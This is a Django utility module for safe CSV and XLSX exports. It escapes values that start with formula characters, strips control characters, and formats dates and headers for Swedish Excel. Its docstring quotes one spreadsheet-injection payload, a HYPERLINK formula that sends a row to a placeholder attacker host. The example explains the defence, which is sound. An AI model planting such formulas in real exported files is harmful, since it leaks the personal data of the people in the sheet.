"""Safe spreadsheet exports (CSV and XLSX) for every app: the one place that writes a cell.

Names, descriptions and messages come from the public. A value that starts with ``= + - @``, a
tab or a carriage return would run as a formula when a coordinator opens the file
(``=HYPERLINK("http://evil.example/?"&A1,"Klicka")`` sends the row to someone else), and a control
character makes openpyxl refuse the whole workbook. ``safe_cell`` neutralises the first with a
leading apostrophe (OWASP "CSV injection") and drops the second, so an export never runs a formula
and never fails.

How a new app uses it:

* import-export: subclass ``SafeResource`` instead of ``resources.ModelResource`` and list
  ``ADMIN_FORMATS`` in the admin (``formats`` / ``export_formats``). Every exported field goes
  through ``safe_cell``; an imported sheet has the apostrophe taken off again, so an export
  imports back unchanged.
* a CSV or XLSX built by hand (a view, an admin action): ``csv_response(rows, header, filename)``
  or ``xlsx_response(rows, header, filename)``; ``csv_content`` / ``xlsx_content`` give the bytes
  (to cache them) and ``attachment_response`` serves bytes as a download.

CSV for the admin is what Swedish Excel opens correctly by double-click: UTF-8 with a byte order
mark and ``;`` between fields (Swedish Excel reads ``,`` as the decimal separator). An open data
CSV with a documented format can ask for ``delimiter=","``.

Dates and times are values, not text: give a ``date`` or ``datetime`` (aware is fine: it is shown in
local time). The XLSX holds them as real date cells with a number format (sortable, filterable); the
CSV writes them as ``2026-12-06`` and ``2026-12-06 14:30``. Every XLSX has a bold, frozen header row,
an auto filter and columns as wide as their content.

A failed export never logs a cell: the values are personal data.
"""

import csv
import datetime as dt
import io
import json
import re
from collections.abc import Iterable, Sequence

from django.core.exceptions import NON_FIELD_ERRORS, ValidationError
from django.http import HttpResponse
from django.utils import timezone
from django.utils.text import capfirst, slugify
from django.utils.translation import gettext
from import_export import resources
from import_export.formats import base_formats
from import_export.forms import SelectableFieldsExportForm

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
ESCAPE = "'"
# What an XLSX cell cannot hold (openpyxl's ILLEGAL_CHARACTERS_RE): C0 controls but tab, LF and CR.
ILLEGAL_CHARACTERS = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")

SWEDISH_EXCEL_DELIMITER = ";"
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def safe_cell(value):
    """``value`` as a spreadsheet may hold it: no formula, no control character. Non-text is kept."""
    if not isinstance(value, str):
        return value
    value = ILLEGAL_CHARACTERS.sub("", value)
    if value.startswith(FORMULA_PREFIXES):
        return ESCAPE + value
    return value


def unescape_cell(value):
    """The value ``safe_cell`` was given, for an imported sheet: the apostrophe it added comes off."""
    if isinstance(value, str) and value.startswith(ESCAPE) and value[1:].startswith(FORMULA_PREFIXES):
        return value[1:]
    return value


DATE_FORMAT = "%Y-%m-%d"
DATETIME_FORMAT = "%Y-%m-%d %H:%M"
XLSX_DATE_FORMAT = "yyyy-mm-dd"
XLSX_DATETIME_FORMAT = "yyyy-mm-dd hh:mm"
XLSX_MIN_WIDTH, XLSX_MAX_WIDTH = 8, 60


def _local(value: dt.datetime) -> dt.datetime:
    """A naive datetime in local time: a spreadsheet has no time zones, people read local time."""
    return timezone.localtime(value).replace(tzinfo=None) if timezone.is_aware(value) else value


def plain_cell(value):
    """``value`` for a text format (CSV): dates and times as ISO text in local time, no seconds."""
    if isinstance(value, dt.datetime):
        return _local(value).strftime(DATETIME_FORMAT)
    if isinstance(value, dt.date):
        return value.strftime(DATE_FORMAT)
    return value


def _safe_rows(rows: Iterable[Sequence], *, plain: bool = False) -> Iterable[list]:
    for row in rows:
        yield [safe_cell(plain_cell(value) if plain else value) for value in row]


def csv_content(
    rows: Iterable[Sequence], header: Sequence | None = None, *, delimiter: str = SWEDISH_EXCEL_DELIMITER
) -> bytes:
    """The whole CSV as UTF-8 with a byte order mark, every cell through ``safe_cell``."""
    buffer = io.StringIO()
    buffer.write("\ufeff")
    writer = csv.writer(buffer, delimiter=delimiter)
    if header is not None:
        writer.writerow([safe_cell(str(name)) for name in header])
    writer.writerows(_safe_rows(rows, plain=True))
    return buffer.getvalue().encode("utf-8")


def _shown_width(value) -> int:
    """About how many characters wide a cell is shown (a date as its number format)."""
    if value is None:
        return 0
    if isinstance(value, dt.datetime):
        return len(XLSX_DATETIME_FORMAT)
    if isinstance(value, dt.date):
        return len(XLSX_DATE_FORMAT)
    return max((len(line) for line in str(value).splitlines()), default=0)


def xlsx_content(rows: Iterable[Sequence], header: Sequence | None = None, *, title: str = "") -> bytes:
    """The whole workbook (one sheet), every cell through ``safe_cell``: dates as date cells, a bold
    header row that stays in view (frozen) with an auto filter, and columns fitted to their content."""
    from openpyxl import Workbook
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    workbook = Workbook()
    sheet = workbook.active
    sheet.title = ILLEGAL_CHARACTERS.sub("", title)[:31] or gettext("Sheet1")
    for ch in "\\/?*[]:":  # characters a sheet's title cannot hold
        sheet.title = sheet.title.replace(ch, " ")
    widths: dict[int, int] = {}
    if header is not None:
        names = [safe_cell(str(name)) for name in header]
        sheet.append(names)
        for cell in sheet[1]:
            cell.font = Font(bold=True)
        for index, name in enumerate(names, start=1):
            widths[index] = _shown_width(name) + 2  # room for the filter button
    for row in _safe_rows(rows):
        values = [_local(value) if isinstance(value, dt.datetime) else value for value in row]
        sheet.append(values)
        for index, value in enumerate(values, start=1):
            widths[index] = max(widths.get(index, 0), _shown_width(value))
    for cell in (c for line in sheet.iter_rows(min_row=2 if header is not None else 1) for c in line):
        if isinstance(cell.value, dt.datetime):
            cell.number_format = XLSX_DATETIME_FORMAT
        elif isinstance(cell.value, dt.date):
            cell.number_format = XLSX_DATE_FORMAT
    for index, width in widths.items():
        sheet.column_dimensions[get_column_letter(index)].width = min(max(width + 1, XLSX_MIN_WIDTH), XLSX_MAX_WIDTH)
    if header is not None:
        sheet.freeze_panes = "A2"
        if sheet.max_row > 1 or widths:
            sheet.auto_filter.ref = sheet.dimensions
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def attachment_response(content: bytes, *, filename: str, content_type: str) -> HttpResponse:
    """Bytes as a download named ``filename`` (ASCII, no quotes: it is ours, not the public's)."""
    response = HttpResponse(content, content_type=content_type)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response["X-Content-Type-Options"] = "nosniff"
    response["Content-Security-Policy"] = "sandbox"  # a download, like every file we send (core.files)
    return response


def csv_response(
    rows: Iterable[Sequence], header: Sequence | None, filename: str, *, delimiter: str = SWEDISH_EXCEL_DELIMITER
) -> HttpResponse:
    """A CSV download for Swedish Excel (BOM, ``;``), every cell safe."""
    return attachment_response(
        csv_content(rows, header, delimiter=delimiter), filename=filename, content_type=CSV_CONTENT_TYPE
    )


def xlsx_response(rows: Iterable[Sequence], header: Sequence | None, filename: str, *, title: str = "") -> HttpResponse:
    """An XLSX download, every cell safe."""
    return attachment_response(
        xlsx_content(rows, header, title=title), filename=filename, content_type=XLSX_CONTENT_TYPE
    )


class SafeResource(resources.ModelResource):
    """Base of every import-export resource: exported cells go through ``safe_cell``, and the
    apostrophe it adds comes off again on import, so an export imports back unchanged."""

    def export_field(self, field, instance, **kwargs):
        return safe_cell(super().export_field(field, instance, **kwargs))

    def import_row(self, row, instance_loader, **kwargs):
        for key, value in list(row.items()):
            row[key] = unescape_cell(value)
        return super().import_row(row, instance_loader, **kwargs)

    def before_import_row(self, row, **kwargs):
        """A cell with a control character is the row's error before any query: PostgreSQL refuses a NUL in
        text, and the error would abort the import's transaction, failing every later row with it. A
        resource that has its own ``before_import_row`` calls this first."""
        columns = {field.column_name: name for name, field in self.fields.items()}
        for column, value in row.items():
            if isinstance(value, str) and ILLEGAL_CHARACTERS.search(value):
                raise ValidationError(
                    {
                        columns.get(column, NON_FIELD_ERRORS): gettext(
                            "“%(column)s” contains a control character (an invisible character such as NUL). "
                            "Remove it and import again."
                        )
                        % {"column": column}
                    }
                )
        super().before_import_row(row, **kwargs)


def _safe_dataset(dataset, *, plain: bool = False):
    """A copy of a tablib dataset with every cell through ``safe_cell`` (idempotent: a resource's
    cells are safe already; this catches a resource that does not derive from ``SafeResource``);
    ``plain``: dates and times as text (for CSV)."""
    cleaned = dataset.__class__(headers=dataset.headers, title=dataset.title)
    for row in _safe_rows(dataset, plain=plain):
        cleaned.append(row)
    return cleaned


class SwedishExcelCSV(base_formats.CSV):
    """import-export's CSV as Swedish Excel writes and reads it: BOM and ``;``.

    Import takes either separator (a file saved by Swedish Excel has ``;``, one from elsewhere ``,``).
    """

    def export_data(self, dataset, **kwargs):
        kwargs.setdefault("delimiter", SWEDISH_EXCEL_DELIMITER)
        return "\ufeff" + _safe_dataset(dataset, plain=True).export("csv", **kwargs)

    def create_dataset(self, in_stream, **kwargs):
        if isinstance(in_stream, bytes) and self.encoding:
            in_stream = in_stream.decode(self.encoding)
        in_stream = in_stream.removeprefix("\ufeff")
        first_line = in_stream.split("\n", 1)[0]
        kwargs.setdefault("delimiter", ";" if first_line.count(";") > first_line.count(",") else ",")
        return base_formats.TablibFormat.create_dataset(self, in_stream, **kwargs)


class SafeXLSX(base_formats.XLSX):
    """import-export's XLSX written by ``xlsx_content``: every cell safe (a control character is
    dropped instead of the export failing and import-export logging the cell), dates as date cells,
    a frozen bold header and fitted columns."""

    def export_data(self, dataset, **kwargs):
        return xlsx_content(list(dataset), dataset.headers or None, title=dataset.title or "")


# The formats every admin offers for export and import (``formats`` / ``export_formats``).
ADMIN_FORMATS = [SwedishExcelCSV, SafeXLSX]


def export_field_label(resource, field_name: str) -> str:
    """What a coordinator reads beside a field's checkbox on the export page: the column's header
    when the resource names it (a translated ``column_name``); else the model field's verbose name,
    with the file's header in brackets (import-export showed "Organisation Number (…)" in English)."""
    field = resource.fields.get(field_name)
    column = str(field.column_name) if field is not None and field.column_name else field_name
    if column != field_name:
        return capfirst(column)
    model = getattr(resource._meta, "model", None)
    try:
        verbose = model._meta.get_field((field.attribute if field is not None else None) or field_name).verbose_name
    except Exception:  # a computed column or a related path: the header is all we have
        return column
    return f"{capfirst(verbose)} ({column})"


class LabelledExportForm(SelectableFieldsExportForm):
    """import-export's export form with each field's checkbox named in the coordinator's language."""

    def _get_field_label(self, resource, field_name: str) -> str:
        return export_field_label(resource, field_name)


def export_filename(model_admin, request, queryset, file_format) -> str:
    """``anmalningar-dialogmote-om-halsa-2026-12-06.csv``: the model's plural name in the active
    language (Swedish) as ASCII, what the admin adds (``export_filename_parts``), today's date."""
    parts = [str(model_admin.model._meta.verbose_name_plural)]
    extra = getattr(model_admin, "export_filename_parts", None)
    if extra is not None:
        parts += [str(part) for part in extra(request, queryset)]
    stem = "-".join(filter(None, (slugify(part)[:60].strip("-") for part in parts)))
    return f"{stem or 'export'}-{export_date().isoformat()}.{file_format.get_extension()}"


def export_date() -> dt.date:
    """Today, for the file name (one place, so a test can fix the day)."""
    return timezone.localdate()


def install_admin_exports() -> None:
    """Every import-export admin, of every app, gets the labelled export form and the Swedish file
    name without asking (called from ``core.apps``); an admin can still set its own."""
    from import_export.admin import ExportMixin

    ExportMixin.export_form_class = LabelledExportForm

    def get_export_filename(self, request, queryset, file_format):
        return export_filename(self, request, queryset, file_format)

    ExportMixin.get_export_filename = get_export_filename


JSON_CONTENT_TYPE = "application/json"


def json_content(data) -> bytes:
    """An open data JSON document (an API serializer's output) as the downloads give it: UTF-8,
    indented one space, dates and times as ISO 8601."""
    from django.core.serializers.json import DjangoJSONEncoder

    return json.dumps(data, cls=DjangoJSONEncoder, ensure_ascii=False, indent=1).encode("utf-8")


def json_download(content: bytes, *, filename: str) -> HttpResponse:
    """JSON bytes shown in the browser (``inline``) and saved as ``filename``; sandboxed like every file."""
    response = HttpResponse(content, content_type=JSON_CONTENT_TYPE)
    response["Content-Disposition"] = f'inline; filename="{filename}"'
    response["Content-Security-Policy"] = "sandbox"
    return response
